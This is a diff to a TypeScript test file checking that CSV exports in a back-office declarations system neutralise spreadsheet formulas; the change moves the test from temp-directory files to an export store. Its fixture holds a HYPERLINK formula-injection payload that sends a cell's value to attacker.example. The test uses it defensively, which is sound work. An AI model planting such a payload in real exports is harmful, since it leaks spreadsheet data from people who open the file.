@@ -2,17 +2,16 @@
 // the start) leaves us as text with a leading quote, in every CSV we write: the statement declarations
 // CSV downloaded from the back office, the declaration export job's files, and the small CSVs of the
 // import pages. Plain numbers stay numbers; the 25 columns are otherwise unchanged.
-import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
-import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
 import { runJob } from '../../../src/actions/jobs/run-job.js';
 import { unknownUrnsCsv } from '../../../src/actions/schools/pupil-premium/unknown-urns-csv.js';
 import { declarationExportsJob } from '../../../src/jobs/declaration-exports-job.js';
 import { inertCell } from '../../../src/reports/csv/inert-cells.js';
+import { exportStore } from '../../../src/reports/exports/export-store.js';
 import { DECLARATIONS_CSV_HEADERS } from '../../../src/reports/statements/declarations-csv.js';
 import { BackOfficeClient, startBackOffice, type BackOffice } from '../../support/back-office.js';
+import { readExport } from '../../support/exports.js';
 import { createDeclaration, createDeliveryPartner, createLeadProvider, createParticipant, createParticipantWorld, createSchool, createStatement, createUser } from '../../support/factories.js';
 
 const NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';
@@ -33,13 +32,10 @@ describe('the cell rule', () => {
 
 describe('the declarations CSVs', () => {
   let app: BackOffice;
-  let dir: string;
   let statementId: string;
   const finance = () => new BackOfficeClient(app);
 
   beforeAll(async () => {
-    dir = await mkdtemp(path.join(tmpdir(), 'exports-'));
-    process.env.EXPORTS_DIR = dir;
     const leadProvider = await createLeadProvider({ name: 'Formula Provider' });
     const world = await createParticipantWorld(2024, { leadProvider, school: await createSchool({ name: SCHOOL }), deliveryPartner: await createDeliveryPartner({ name: PARTNER }) });
     const statement = await createStatement(world.leadProvider, world.cohort, { name: STATEMENT });
@@ -52,8 +48,6 @@ describe('the declarations CSVs', () => {
   }, 120_000);
   afterAll(async () => {
     await app?.close();
-    delete process.env.EXPORTS_DIR;
-    await rm(dir, { recursive: true, force: true });
   });
 
   const expectInert = (rows: string[][]) => {
@@ -84,8 +78,8 @@ describe('the declarations CSVs', () => {
   it("written by the declaration export job, for one statement and for the provider's cohort", async () => {
     await runJob(declarationExportsJob, { statementId });
     await runJob(declarationExportsJob, {});
-    const csvs = (await readdir(dir)).filter((file) => file.includes('FormulaProvider'));
+    const csvs = (await exportStore().list()).map((f) => f.name).filter((file) => file.includes('FormulaProvider'));
     expect(csvs).toHaveLength(2);
-    for (const file of csvs) expectInert(parse(await readFile(path.join(dir, file))) as string[][]);
+    for (const file of csvs) expectInert(parse((await readExport(file)) ?? '') as string[][]);
   });
 });
